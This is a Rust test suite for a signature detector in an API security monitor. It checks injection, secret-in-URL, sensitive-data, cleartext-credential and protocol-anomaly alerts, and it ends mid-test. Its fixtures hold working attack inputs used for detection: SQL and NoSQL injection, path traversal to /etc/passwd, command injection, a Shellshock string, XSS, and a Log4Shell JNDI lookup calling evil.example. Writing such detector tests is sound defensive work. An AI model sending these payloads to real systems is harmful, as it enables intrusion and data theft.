//! Tests of the signature detector on whole transactions: each kind fires on the attack shape
//! and stays quiet on close benign look-alikes; evidence never carries a raw secret.

use super::*;
use crate::alert::{Alert, Client, Endpoint};
use crate::baseline::profile::{EndpointKey, ProfileConfig};
use crate::common::Timestamp;
use crate::detect::{DetectConfig, DetectEngine, DetectEnv};
use crate::identity::{IdentityConfig, IdentityExtractor};
use crate::inventory::template::{RouteConfig, RouteLearner};
use crate::model::learn::{LearnConfig, Learner};
use crate::model::Model;
use crate::transaction::{Body, ConnInfo, Headers, HttpVersion, Request, Response, Transaction};

const KEY: &[u8] = b"signature-test-key-0123456789abc";
const SERVER: [u8; 4] = [10, 1, 0, 7];

/// One request and its response, as a test writes them.
#[derive(Clone)]
struct Call<'a> {
    method: &'a str,
    uri: &'a str,
    headers: Vec<(&'a str, &'a str)>,
    body: &'a str,
    status: u16,
    response: &'a str,
    server: [u8; 4],
    flags: Vec<&'static str>,
}

fn get(uri: &str) -> Call<'_> {
    Call {
        method: "GET",
        uri,
        headers: vec![],
        body: "",
        status: 200,
        response: "",
        server: SERVER,
        flags: vec![],
    }
}

fn post<'a>(uri: &'a str, body: &'a str) -> Call<'a> {
    Call {
        method: "POST",
        body,
        headers: vec![("Content-Type", "application/json")],
        ..get(uri)
    }
}

impl<'a> Call<'a> {
    fn header(mut self, n: &'a str, v: &'a str) -> Self {
        self.headers.push((n, v));
        self
    }
    fn respond(mut self, status: u16, body: &'a str) -> Self {
        self.status = status;
        self.response = body;
        self
    }
    fn to(mut self, server: [u8; 4]) -> Self {
        self.server = server;
        self
    }
    fn flagged(mut self, flags: &[&'static str]) -> Self {
        self.flags = flags.to_vec();
        self
    }

    fn tx(&self, sec: u64) -> Transaction {
        let start = Timestamp::from_nanos(1_700_000_000_000_000_000 + sec * 1_000_000_000);
        let mut headers = Headers::new();
        headers.push(b"Host", b"api.bank.example");
        for (n, v) in &self.headers {
            headers.push(n.as_bytes(), v.as_bytes());
        }
        let mut rh = Headers::new();
        if self.response.starts_with('{') || self.response.starts_with('[') {
            rh.push(b"Content-Type", b"application/json");
        }
        let body = |s: &str| Body {
            data: s.as_bytes().to_vec(),
            len: s.len() as u64,
            wire_len: s.len() as u64,
            truncated: false,
        };
        Transaction {
            conn: ConnInfo {
                flow_id: format!("f{sec}"),
                client: IpAddr::from([192, 0, 2, 10]),
                client_port: 40000,
                server: IpAddr::from(self.server),
                server_port: 80,
                vlan: None,
            },
            depth: 1,
            request: Some(Request {
                method: self.method.into(),
                uri: self.uri.into(),
                version: HttpVersion::Http11,
                headers,
                body: body(self.body),
                start,
                end: start,
            }),
            response: Some(Response {
                status: self.status,
                reason: String::new(),
                version: HttpVersion::Http11,
                headers: rh,
                body: body(self.response),
                interim: vec![],
                start,
                end: start,
            }),
            flags: self.flags.clone(),
        }
    }
}

/// Runs the detector on one call, with the endpoint's profile learned from `training`.
struct Fixture {
    det: SignatureDetector,
    extractor: IdentityExtractor,
    learner: Learner,
}

impl Fixture {
    fn new(cfg: SignatureConfig) -> Fixture {
        let extractor = IdentityExtractor::new(&IdentityConfig::default(), KEY).unwrap();
        let model = Model::new("s", "k", RouteLearner::new(RouteConfig::default()));
        let learner = Learner::new(
            model,
            IdentityExtractor::new(&IdentityConfig::default(), KEY).unwrap(),
            LearnConfig::default(),
        );
        Fixture {
            det: SignatureDetector::new(&cfg).unwrap(),
            extractor,
            learner,
        }
    }

    fn run(&mut self, call: &Call<'_>, training: &[Call<'_>]) -> Vec<Finding> {
        let pcfg = ProfileConfig::default();
        let profile = (!training.is_empty()).then(|| {
            let mut p = EndpointProfile::new(&pcfg);
            for (i, t) in training.iter().enumerate() {
                let tx = t.tx(i as u64);
                p.observe(
                    &tx,
                    &self.extractor.extract(&tx),
                    &[],
                    &pcfg,
                    &crate::baseline::coverage::Coverage::always(),
                );
            }
            p
        });
        let tx = call.tx(10_000);
        let req = tx.request.as_ref().unwrap();
        let identity = self.extractor.extract(&tx);
        let key = EndpointKey {
            host: "api.bank.example".into(),
            method: req.method.clone(),
            template: req.uri.split('?').next().unwrap().into(),
            graphql: None,
        };
        let cx = Context {
            tx: &tx,
            req,
            resp: tx.response.as_ref(),
            ts: tx.ts(),
            key: &key,
            endpoint_id: crate::detect::endpoint_id(&key),
            endpoint: std::cell::OnceCell::from(Endpoint {
                host: key.host.clone(),
                method: key.method.clone(),
                route: key.template.clone(),
            }),
            client: std::cell::OnceCell::from(Client {
                ip: Some(identity.client_ip),
                identity: identity.subject.as_ref().map(|s| s.as_str().to_owned()),
                role: None,
            }),
            identity: &identity,
            object_ids: &[],
            profile: profile.as_ref(),
            caller: None,
            learner: &self.learner,
            spec: None,
            bodies: crate::detect::Bodies::new(1 << 20),
            spec_op: std::cell::OnceCell::new(),
            complete: true,
        };
        let mut out = Vec::new();
        self.det.observe(&cx, &mut out);
        out
    }
}

fn run(call: Call<'_>) -> Vec<Finding> {
    Fixture::new(SignatureConfig::default()).run(&call, &[])
}

fn of_kind(fs: &[Finding], kind: AlertKind) -> Vec<&Finding> {
    fs.iter().filter(|f| f.kind == kind).collect()
}

/// The first match of the one injection finding: (class, rule, where).
fn injection(call: Call<'_>) -> Option<(String, String, String)> {
    let fs = run(call);
    let f = of_kind(&fs, AlertKind::Injection);
    assert!(f.len() <= 1, "one finding per transaction");
    let m = f.first()?.evidence.get("matches")?.get(0)?.clone();
    let s = |k: &str| m.get(k).and_then(Value::as_str).unwrap_or("").to_owned();
    Some((s("class"), s("rule"), s("where")))
}

fn assert_no_secret(f: &Finding, secret: &str) {
    let text = serde_json::to_string(&f.evidence).unwrap() + &f.summary;
    assert!(!text.contains(secret), "{secret} leaked in {text}");
}

#[test]
fn injection_is_found_where_it_was_sent() {
    let cases: Vec<(Call, &str, &str)> = vec![
        (
            get("/api/v1/search?q=%27+or+%271%27%3D%271"),
            "sqli",
            "query:q",
        ),
        (
            get("/api/v1/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
            "sqli",
            "query:q",
        ),
        (
            get("/api/v1/accounts/1%27%20or%20%271%27=%271"),
            "sqli",
            "path:4",
        ),
        (
            get("/api/v1/files/..%2f..%2f..%2fetc%2fpasswd"),
            "path_traversal",
            "path:4",
        ),
        (
            get("/api/v1/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
            "path_traversal",
            "path:4",
        ),
        (
            get("/api/v1/files/../../etc/passwd"),
            "path_traversal",
            "path:0",
        ),
        (
            get("/api/v1/ping?host=8.8.8.8%3Bcat%20/etc/passwd"),
            "os_command",
            "query:host",
        ),
        (
            get("/api/v1/greet?name=%7B%7B7*7%7D%7D"),
            "ssti",
            "query:name",
        ),
        (
            get("/api/v1/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            "xss",
            "query:q",
        ),
        (
            get("/api/v1/login?user[$ne]=x"),
            "nosqli",
            "query:user[$ne]",
        ),
        (
            get("/api/v1/me").header("User-Agent", "${jndi:ldap://evil.example/a}"),
            "ssti",
            "header:user-agent",
        ),
        (
            get("/api/v1/me").header("X-Customer-Ref", "1; DROP TABLE users"),
            "sqli",
            "header:x-customer-ref",
        ),
        (
            get("/api/v1/me").header("Referer", "https://x.example/?q=<svg/onload=alert(1)>"),
            "xss",
            "header:referer",
        ),
        (
            get("/api/v1/me").header("Cookie", "theme=dark; pref=' or 1=1--"),
            "sqli",
            "cookie:pref",
        ),
        (
            post(
                "/api/v1/auth/login",
                r#"{"username":{"$ne":null},"password":{"$ne":null}}"#,
            ),
            "nosqli",
            "body:$.password.$ne",
        ),
        (
            post(
                "/api/v1/profile",
                r#"{"user":{"bio":"<img src=x onerror=alert(1)>"}}"#,
            ),
            "xss",
            "body:$.user.bio",
        ),
        (
            post("/api/v1/notes", r#"{"tags":["ok","`id`"]}"#),
            "os_command",
            "body:$.tags[]",
        ),
        (
            get("/api/v1/x").header("Content-Type", "application/x-www-form-urlencoded"),
            "",
            "",
        ),
    ];
    for (call, class, location) in cases {
        let got = injection(call.clone());
        if class.is_empty() {
            assert_eq!(got, None, "{}", call.uri);
            continue;
        }
        let (c, _, w) = got.unwrap_or_else(|| {
            panic!(
                "no injection found in {} {:?} {}",
                call.uri, call.headers, call.body
            )
        });
        assert_eq!(
            (c.as_str(), w.as_str()),
            (class, location),
            "{} {}",
            call.uri,
            call.body
        );
    }
}

#[test]
fn form_bodies_are_inspected_like_queries() {
    let mut call = post("/api/v1/auth/login", "username=admin%27--&password=x");
    call.headers = vec![(
        "Content-Type",
        "application/x-www-form-urlencoded; charset=utf-8",
    )];
    let got = injection(call);
    assert_eq!(
        got,
        Some((
            "sqli".into(),
            "sqli_quote_comment".into(),
            "body:username".into()
        ))
    );
}

#[test]
fn benign_look_alikes_raise_nothing() {
    let calls = vec![
        get("/api/v1/search?q=O%27Brien"),
        get("/api/v1/search?q=rock+%26+roll"),
        get("/api/v1/search?q=50%25+off"),
        get("/api/v1/search?q=c%2B%2B+books"),
        get("/api/v1/search?q=select+a+plan"),
        get("/api/v1/search?q=Caf%C3%A9+M%C3%BCller&sort=name&order=asc"),
        get("/api/v1/users?email=jane.o%27neil%2Bnews%40example.com"),
        get("/api/v1/redirect?next=https%3A%2F%2Fapp.example%2Fhome%3Ftab%3D2"),
        get("/api/v1/accounts/8f14e45f-ceea-467f-a0e6-6f3b0e6a1c2d/transactions?from=2024-01-01"),
        get("/api/v1/me")
            .header(
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
            )
            .header("Referer", "https://app.example/accounts?tab=1&sort=desc")
            .header("Cookie", "session=abc123; theme=dark")
            .header("X-Request-Id", "5f1c7b0e-93a2-4d8e-8c61-0b0f5c2e7a11")
            .header("Authorization", "Bearer ' or 1=1--"),
        post(
            "/api/v1/transfers",
            r#"{"memo":"Rent for O'Brien & Sons; thanks!","amount":"$5.00","note":"50% off, c++ books","tags":["rock & roll","select a plan"],"email":"a.b@example.com","url":"https://example.com/a?b=1&c=2","template":"Hello {{name}}","price":"${amount}","$5":"x"}"#,
        ),
    ];
    for call in calls {
        let fs = run(call.clone());
        assert!(
            of_kind(&fs, AlertKind::Injection).is_empty(),
            "{} {}: {:?}",
            call.uri,
            call.body,
            fs
        );
    }
}

#[test]
fn injection_excerpts_from_password_fields_and_cookies_are_masked() {
    let secret = "hunter2' or '1'='1";
    let body = format!(r#"{{"username":"admin","password":"{secret}"}}"#);
    let fs = run(post("/api/v1/auth/login", &body));
    let f = of_kind(&fs, AlertKind::Injection);
    let f = f.first().expect("injection in the password field");
    assert_no_secret(f, "' or '1'='1");
    assert_eq!(f.evidence["matches"][0]["where"], "body:$.password");
    assert!(f.evidence["matches"][0]["excerpt"]
        .as_str()
        .unwrap()
        .starts_with('…'));
}

#[test]
fn learned_nosql_operators_are_not_injection() {
    // An API that takes Mongo-style filters by design teaches its baseline the operator.
    let normal = post("/api/v1/query", r#"{"status":{"$in":["open","held"]}}"#);
    let training = vec![normal.clone(); 5];
    let mut fx = Fixture::new(SignatureConfig::default());
    assert!(of_kind(&fx.run(&normal, &training), AlertKind::Injection).is_empty());
    let attack = post("/api/v1/query", r#"{"status":{"$where":"sleep(1000)"}}"#);
    let fs = fx.run(&attack, &training);
    assert_eq!(
        of_kind(&fs, AlertKind::Injection)[0].evidence["matches"][0]["rule"],
        "nosql_where_clause"
    );
}

#[test]
fn secrets_in_urls_are_masked_and_known_practices_fold_per_endpoint() {
    let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
    let stripe = "sk_live_4eC39HqLyjWDarjtT1zdp7dc0123";
    let cases: Vec<(String, &str, String, &str)> = vec![
        (
            format!("/api/v1/accounts?api_key={stripe}"),
            "stripe_key",
            format!("sk_l…({} chars)", stripe.len()),
            stripe,
        ),
        (
            format!("/api/v1/accounts?access_token={jwt}"),
            "jwt",
            format!("eyJh…({} chars)", jwt.len()),
            jwt,
        ),
        (
            "/api/v1/login?user=bob&password=hunter2".into(),
            "password",
            "…(7 chars)".into(),
            "hunter2",
        ),
        (
            "/api/v1/data?token=a8f5f167f44f4964e6c998dee827110c".into(),
            "api_key_or_token",
            "a8f5…(32 chars)".into(),
            "a8f5f167f44f4964e6c998dee827110c",
        ),
        (
            format!("/api/v1/reset/{jwt}"),
            "jwt",
            format!("eyJh…({} chars)", jwt.len()),
            jwt,
        ),
    ];
    for (uri, kind, masked, secret) in &cases {
        let fs = run(get(uri));
        let f = of_kind(&fs, AlertKind::SecretInUrl);
        let f = f
            .first()
            .unwrap_or_else(|| panic!("no secret_in_url for {uri}"));
        assert_eq!(f.evidence["secrets"][0]["kind"], *kind, "{uri}");
        assert_eq!(f.evidence["secrets"][0]["masked"], masked.as_str(), "{uri}");
        assert_eq!(f.scope, crate::detect::Scope::Call);
        assert_eq!(f.severity, Severity::High);
        assert_no_secret(f, secret);
    }
    for benign in [
        "/api/v1/search?key=name&token=abc",
        "/api/v1/items?page_token=a8f5f167f44f4964e6c998dee827110c",
        "/api/v1/items?sort=password_strength",
        "/api/v1/search?q=sk_live_",
    ] {
        assert!(
            of_kind(&run(get(benign)), AlertKind::SecretInUrl).is_empty(),
            "{benign}"
        );
    }
    // An API built to take keys in the URL: one endpoint-wide, low-severity incident.
    let uri = "/api/v1/quotes?apikey=Zx81kq0LmP2v9TbYc4Nw";
    let training = vec![get(uri); 25];
    let fs = Fixture::new(SignatureConfig::default()).run(&get(uri), &training);
    let f = of_kind(&fs, AlertKind::SecretInUrl)[0];
    assert_eq!(
        (f.scope, f.severity),
        (crate::detect::Scope::Endpoint, Severity::Low)
    );
}

#[test]
fn sensitive_data_new_to_an_endpoint_alerts_with_masked_samples() {
    let normal = r#"{"id":"a1","balance":"10.00","owner":{"email":"jane@example.com"}}"#;
    let training = vec![get("/api/v1/accounts/a1").respond(200, normal); 30];
    let leak = r#"{"id":"a1","balance":"10.00","owner":{"email":"jane@example.com","ssn":"123-45-6789","card":"4111 1111 1111 1111","passwordHash":"$2b$12$KIXQJkz1b6Qe5Jq1m0Yx2uJ8n2H9s5wYw1mGZ0p3cQ7r8t9u0v1w2"}}"#;
    let mut fx = Fixture::new(SignatureConfig::default());
    assert!(of_kind(&fx.run(&training[0], &training), AlertKind::SensitiveData).is_empty());
    let fs = fx.run(&get("/api/v1/accounts/a1").respond(200, leak), &training);
    let f = of_kind(&fs, AlertKind::SensitiveData);
    let f = f.first().expect("sensitive_data");
    assert_eq!(
        f.evidence["kinds"],
        json!(["card_number", "password_hash", "us_ssn"])
    );
    let fields = f.evidence["fields"].as_array().unwrap();
    let at = |k: &str| {
        fields
            .iter()
            .find(|e| e["kind"] == k)
            .map(|e| {
                (
                    e["where"].as_str().unwrap().to_owned(),
                    e["masked"].as_str().unwrap().to_owned(),
                )
            })
            .unwrap()
    };
    assert_eq!(
        at("card_number"),
        ("$.owner.card".into(), "…1111 (16 digits)".into())
    );
    assert_eq!(at("us_ssn"), ("$.owner.ssn".into(), "***-**-6789".into()));
    assert_eq!(at("password_hash").0, "$.owner.passwordHash");
    assert_eq!(f.evidence["baseline_calls"], 30);
    assert_eq!(f.severity, Severity::High);
    assert_no_secret(f, "4111 1111 1111 1111");
    assert_no_secret(f, "123-45-6789");
    assert_no_secret(f, "KIXQJkz1b6");
}

#[test]
fn sensitive_data_an_endpoint_always_carried_is_quiet() {
    let cards = r#"{"cards":[{"number":"4111111111111111","holder":"J Doe"}]}"#;
    let training = vec![get("/api/v1/cards").respond(200, cards); 10];
    let mut fx = Fixture::new(SignatureConfig::default());
    let other = r#"{"cards":[{"number":"5500000000000004","holder":"A Roe"}]}"#;
    assert!(of_kind(
        &fx.run(&get("/api/v1/cards").respond(200, other), &training),
        AlertKind::SensitiveData
    )
    .is_empty());
    assert_eq!(fx.det.counters().sensitive_data_known, 1);
    // Never learned: any judged kind is new. Emails are not judged by default.
    let fs = fx.run(&get("/api/v1/new").respond(200, other), &[]);
    assert_eq!(of_kind(&fs, AlertKind::SensitiveData).len(), 1);
    let emails = r#"{"users":[{"email":"a@example.com","phone":"+14155552671"}]}"#;
    assert!(of_kind(
        &fx.run(&get("/api/v1/new").respond(200, emails), &[]),
        AlertKind::SensitiveData
    )
    .is_empty());
    // Binary bodies hold every byte pattern somewhere: not judged.
    let mut jpeg = String::from("\u{ff}\u{d8}\u{ff}\u{e0}\0\x10JFIF\0");
    jpeg.push_str("$2a$abc 4111111111111111 123-45-6789\0\0\0");
    assert!(of_kind(
        &fx.run(&get("/logo.jpg").respond(200, &jpeg), &[]),
        AlertKind::SensitiveData
    )
    .is_empty());
    // Script that names a password field is code, not a leak.
    let js = r#"function login(){var password="";form.pass=document.getElementById("pwd").value;}"#;
    assert!(of_kind(
        &fx.run(&get("/static/app.js").respond(200, js), &[]),
        AlertKind::SensitiveData
    )
    .is_empty());
    // Text bodies: a private key in a plain-text response.
    let pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n";
    let fs = fx.run(&get("/api/v1/debug").respond(200, pem), &[]);
    assert_eq!(
        of_kind(&fs, AlertKind::SensitiveData)[0].evidence["kinds"],
        json!(["pem_private_key"])
    );
}

#[test]
fn personal_data_in_urls_is_sensitive_data_unless_the_parameter_always_had_it() {
    let fs = run(get("/api/v1/lookup?ssn=123-45-6789&name=jo"));
    let f = of_kind(&fs, AlertKind::SensitiveData);
    let f = f.first().expect("an SSN in the URL");
    assert_eq!(f.evidence["fields"][0]["where"], "query:ssn");
    assert_eq!(f.evidence["fields"][0]["masked"], "***-**-6789");
    assert_no_secret(f, "123-45-6789");
    let call = get("/api/v1/verify?card=4111111111111111");
    let training = vec![call.clone(); 5];
    let mut fx = Fixture::new(SignatureConfig::default());
    assert!(of_kind(&fx.run(&call, &training), AlertKind::SensitiveData).is_empty());
    assert_eq!(
        of_kind(&fx.run(&call, &[]), AlertKind::SensitiveData).len(),
        1
    );
    assert!(of_kind(
        &run(get("/api/v1/orders?id=4111111111111112&date=2024-01-01")),
        AlertKind::SensitiveData
    )
    .is_empty());
}

#[test]
fn cleartext_credentials_only_outside_tls_terminated_upstreams() {
    let cfg = SignatureConfig {
        tls_terminated_servers: vec!["10.1.0.0/24".into()],
        ..SignatureConfig::default()
    };
    let mut fx = Fixture::new(cfg);
    let login = post(
        "/api/v1/auth/login",
        r#"{"username":"bob","password":"hunter2"}"#,
    );
    assert!(of_kind(&fx.run(&login, &[]), AlertKind::CleartextCredentials).is_empty());
    let fs = fx.run(&login.clone().to([10, 9, 0, 5]), &[]);
    let f = of_kind(&fs, AlertKind::CleartextCredentials);
    let f = f.first().expect("cleartext login");
    assert_eq!(f.evidence["credential_kinds"], json!(["password_field"]));
    assert_eq!(f.evidence["server"], "10.9.0.5");
    assert_no_secret(f, "hunter2");
    let basic = get("/api/v1/me")
        .header("Authorization", "Basic Ym9iOmh1bnRlcjI=")
        .to([10, 9, 0, 5]);
    let fs = fx.run(&basic, &[]);
    let f = of_kind(&fs, AlertKind::CleartextCredentials)[0];
    assert_eq!(f.evidence["credential_kinds"], json!(["basic_auth"]));
    assert!(
        f.evidence["basic_user"].is_string(),
        "the user as a pseudonym"
    );
    assert_no_secret(f, "Ym9iOmh1bnRlcjI=");
    let fs = fx.run(
        &get("/api/v1/quotes?api_key=Zx81kq0LmP2v9TbYc4Nw").to([10, 9, 0, 5]),
        &[],
    );
    let f = of_kind(&fs, AlertKind::CleartextCredentials)[0];
    assert_eq!(f.evidence["credential_kinds"], json!(["api_key_or_token"]));
    // No credentials, no finding, wherever the server is.
    assert!(of_kind(
        &fx.run(&get("/api/v1/health").to([10, 9, 0, 5]), &[]),
        AlertKind::CleartextCredentials
    )
    .is_empty());
    // Unconfigured: judged nowhere, counted.
    let mut fx = Fixture::new(SignatureConfig::default());
    assert!(of_kind(
        &fx.run(&login.to([10, 9, 0, 5]), &[]),
        AlertKind::CleartextCredentials
    )
    .is_empty());
    assert_eq!(fx.det.counters().cleartext_unconfigured, 1);
}

#[test]
fn protocol_anomalies_map_to_severities_and_capture_gaps_do_not_alert() {
    /// (flags on the transaction, the finding's severity and anomaly names, if any).
    type Case = (
        &'static [&'static str],
        Option<(Severity, &'static [&'static str])>,
    );
    let cases: &[Case] = &[
        (
            &["transfer_encoding_with_content_length"],
            Some((Severity::High, &["transfer_encoding_with_content_length"])),
        ),
        (
            &["conflicting_content_length", "obs_fold"],
            Some((Severity::High, &["conflicting_content_length", "obs_fold"])),
        ),
        (
            &["overlap_mismatch", "partial", "request_gap"],
            Some((Severity::High, &["overlap_mismatch"])),
        ),
        (&["obs_fold"], Some((Severity::Medium, &["obs_fold"]))),
        (
            &["duplicate_content_length"],
            Some((Severity::Low, &["duplicate_content_length"])),
        ),
        // Capture impairment and its side effects: not attacks.
        (&["partial", "request_gap"], None),
        (&["invalid_chunk_size", "partial", "response_gap"], None),
        (
            &[
                "truncated_message",
                "body_truncated",
                "segment_out_of_window",
            ],
            None,
        ),
        (&[], None),
    ];
    for (flags, want) in cases {
        let fs = run(get("/api/v1/x").flagged(flags));
        let f = of_kind(&fs, AlertKind::ProtocolAnomaly);
        let got = f.first().map(|f| {
            let names: Vec<String> = f.evidence["anomalies"]
                .as_array()
                .unwrap()
                .iter()
                .map(|v| v.as_str().unwrap().to_owned())
                .collect();
            (f.severity, names)
        });
        let want = want.map(|(s, n)| (s, n.iter().map(|s| s.to_string()).collect::<Vec<_>>()));
        assert_eq!(got, want, "{flags:?}");
    }
    let cfg = SignatureConfig {
        ignore_anomalies: vec!["obs_fold".into()],
        ..SignatureConfig::default()
    };
    let mut fx = Fixture::new(cfg);
    assert!(fx.run(&get("/x").flagged(&["obs_fold"]), &[]).is_empty());
    let mut fx = Fixture::new(SignatureConfig::default());
    fx.run(
        &get("/x").flagged(&["invalid_chunk_size", "request_gap"]),
        &[],
    );
    assert_eq!(fx.det.counters().protocol_impaired_suppressed, 1);
}

#[test]
fn limits_bound_the_work_and_are_counted() {
    let cfg = SignatureConfig {
        max_json_values: 3,
        max_value_bytes: 32,
        ..SignatureConfig::default()
    };
    let mut fx = Fixture::new(cfg);
    // The payload is the fifth value: skipped, and counted.
    let body = r#"{"a":"1","b":"2","c":"3","d":"' or '1'='1"}"#;
    assert!(fx.run(&post("/x", body), &[]).is_empty());
    assert!(fx.det.counters().json_values_skipped > 0);
    let long = format!("/x?q={}%27%20or%20%271%27=%271", "a".repeat(40));
    assert!(fx.run(&get(&long), &[]).is_empty());
    assert_eq!(fx.det.counters().values_truncated, 1);
}

#[test]
fn header_lists_match_names_in_any_case() {
    let payload = "x' or '1'='1";
    let call = get("/api/v1/me")
        .header("accept-language", payload)
        .header("x-trace", payload);
    let wheres = |cfg: SignatureConfig| -> Vec<String> {
        let fs = Fixture::new(cfg).run(&call, &[]);
        let f = of_kind(&fs, AlertKind::Injection);
        f.first().map_or(vec![], |f| {
            let ms = f.evidence["matches"].as_array().unwrap();
            ms.iter()
                .map(|m| m["where"].as_str().unwrap().to_owned())
                .collect()
        })
    };
    // By default only the X- header is inspected.
    assert_eq!(wheres(SignatureConfig::default()), ["header:x-trace"]);
    let cfg = SignatureConfig {
        inspect_headers: vec!["Accept-Language".into()],
        skip_headers: vec!["X-TRACE".into()],
        ..SignatureConfig::default()
    };
    assert_eq!(wheres(cfg), ["header:accept-language"]);
}

/// The clean-value memo changes what a verdict costs, never the verdict: a detector that has
/// seen every call before (its memo warm) finds exactly what a fresh detector finds, call by
/// call, including values that decode to the same bytes as a clean value but were encoded
/// differently.
#[test]
fn memo_hits_give_the_verdicts_of_a_fresh_classification() {
    let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0";
    let calls = [
        get("/api/v1/files/report?name=../secret.txt").header("User-Agent", ua),
        // Decodes to the same bytes as the clean value above, but spelled with escapes.
        get("/api/v1/files/report?name=..%2fsecret.txt").header("User-Agent", ua),
        get("/api/v1/search?q=rock+%26+roll;+jazz").header("User-Agent", ua),
        get("/api/v1/search?q=rock+%26+roll;+jazz%27+or+%271%27%3D%271").header("User-Agent", ua),
        get("/api/v1/search?q=a;b")
            .header("User-Agent", ua)
            .header("X-Client", "web; v=2"),
        get("/api/v1/search?q=a;b")
            .header("User-Agent", "() { :; }; /bin/bash -c 'id'")
            .header("X-Client", "web; v=2"),
        post("/api/v1/notes", r#"{"text":"a;b","tags":["x=1","y'z"]}"#),
        post(
            "/api/v1/notes",
            r#"{"text":"a;b; cat /etc/passwd","tags":["x=1"]}"#,
        ),
    ];
    let cfg = SignatureConfig::default();
    let mut warm = Fixture::new(cfg.clone());
    let mut attacks = 0;
    for round in 0..3 {
        for (i, call) in calls.iter().enumerate() {
            let want = Fixture::new(cfg.clone()).run(call, &[]);
            let got = warm.run(call, &[]);
            assert_eq!(got, want, "round {round}, call {i}");
            attacks += of_kind(&got, AlertKind::Injection).len();
        }
    }
    assert_eq!(attacks, 3 * 4, "the attack calls were found every round");
    let c = warm.det.counters();
    assert!(c.clean_memo_hits > 0, "{c:?}");
    assert!(c.clean_memo_hits < c.values_inspected, "{c:?}");
    assert_eq!(c.clean_memo_evictions, 0);
}

#[test]
fn memo_skips_credentials_and_counts_evictions() {
    let mut fx = Fixture::new(SignatureConfig::default());
    // Cookies may be credentials: classified every time, never remembered.
    let call = get("/api/v1/me").header("Cookie", "session=a;b=c=d");
    for _ in 0..3 {
        assert!(fx.run(&call, &[]).is_empty());
    }
    assert_eq!(fx.det.counters().clean_memo_hits, 0);
    assert_eq!(fx.det.counters().values_inspected, 3);
    // More distinct clean values than the memo holds: the overflow is counted.
    let per_call = 100;
    let calls = 50;
    for n in 0..calls {
        let query: Vec<String> = (0..per_call).map(|i| format!("p{i}=v;{n}-{i}")).collect();
        let uri = format!("/api/v1/search?{}", query.join("&"));
        assert!(fx.run(&get(&uri), &[]).is_empty());
    }
    let c = fx.det.counters();
    let distinct = (per_call * calls) as u64;
    assert_eq!(c.values_inspected, 3 + distinct);
    assert_eq!(c.clean_memo_hits, 0);
    let capacity = (memo::SETS * memo::WAYS) as u64;
    assert!(c.clean_memo_evictions >= distinct - capacity, "{c:?}");
    assert!(c.clean_memo_evictions < distinct, "{c:?}");
}

/// A rough cost figure for a typical benign call (printed, with a loose floor that only a
/// pathological slowdown breaks, even in an unoptimised test build).
#[test]
fn a_benign_call_costs_little() {
    let mut fx = Fixture::new(SignatureConfig::default());
    let call = post(
        "/api/v1/accounts/8f14e45f-ceea-467f-a0e6-6f3b0e6a1c2d/transfers?currency=EUR&note=rent",
        r#"{"to":"DE89370400440532013000","amount":"125.00","memo":"Rent for May","tags":["home","monthly"]}"#,
    )
    .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36")
    .header("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1MSJ9.sig")
    .respond(200, r#"{"id":"t-1","status":"accepted","amount":"125.00","balance":"2210.50"}"#);
    let n = 2000u32;
    let start = std::time::Instant::now();
    for _ in 0..n {
        assert!(fx.run(&call, &[]).is_empty());
    }
    let per_call = start.elapsed() / n;
    println!("signature detector plus fixture: {per_call:?} per call");
    assert!(
        per_call < std::time::Duration::from_millis(2),
        "{per_call:?}"
    );
}

#[test]
fn bad_settings_are_each_named() {
    let cfg = SignatureConfig {
        max_decode_rounds: 0,
        response_kinds: vec!["card_number".into(), "cards".into()],
        tls_terminated_servers: vec!["10.1.0.0/24".into(), "10.1.0.300".into()],
        ignore_anomalies: vec!["partial".into()],
        ..SignatureConfig::default()
    };
    let mut p = Problems::default();
    cfg.check(&mut p);
    let keys: Vec<String> =
        p.0.iter()
            .map(|p| format!("{} = {}", p.key, p.value))
            .collect();
    assert_eq!(
        keys,
        [
            "signatures.max_decode_rounds = 0",
            "signatures.response_kinds = cards",
            "signatures.tls_terminated_servers = 10.1.0.300",
            "signatures.ignore_anomalies = partial",
        ]
    );
    assert!(SignatureDetector::new(&cfg).is_err());
    let mut d = DetectConfig::default();
    d.signatures.max_matches = 0;
    assert!(d
        .validate()
        .unwrap_err()
        .contains("[detect] signatures.max_matches = 0"));
}

/// The engine runs the detector: an injection opens one incident whose count grows.
#[test]
fn the_engine_folds_repeated_injections_into_one_alert() {
    let model = Model::new("s", "k", RouteLearner::new(RouteConfig::default()));
    let identity = IdentityExtractor::new(&IdentityConfig::default(), KEY).unwrap();
    let mut engine = DetectEngine::new(
        model,
        identity,
        DetectConfig::default(),
        DetectEnv::default(),
    )
    .unwrap();
    assert!(engine.detector_names().contains(&"signatures"));
    let mut alerts: Vec<Alert> = Vec::new();
    for i in 0..20 {
        engine.observe(&get("/api/v1/search?q=shoes").tx(i), &mut alerts);
    }
    for i in 20..25 {
        engine.observe(
            &get("/api/v1/search?q=1%27%20or%201=1--").tx(i),
            &mut alerts,
        );
    }
    engine.finish(&mut alerts);
    // Other families may judge the unlearned endpoint too; the injection incident is one.
    let injections: Vec<&Alert> = alerts
        .iter()
        .filter(|a| a.kind.name() == "injection")
        .collect();
    assert_eq!(
        injections.len(),
        2,
        "opening and closing record: {injections:?}"
    );
    assert_eq!(injections[0].id, injections[1].id);
    let last = injections[1];
    assert_eq!(last.count, 5);
    assert_eq!(last.evidence["classes"], json!(["sqli"]));
}

proptest::proptest! {
    /// Arbitrary request targets, headers and bodies never panic the detector, and every
    /// finding it raises has a summary and a kind-specific evidence object.
    #[test]
    fn arbitrary_requests_never_panic(
        uri in "/[ -~]{0,80}",
        ua in "[ -~]{0,60}",
        body in "[ -~]{0,120}",
        status in 100u16..600,
    ) {
        let mut fx = Fixture::new(SignatureConfig {
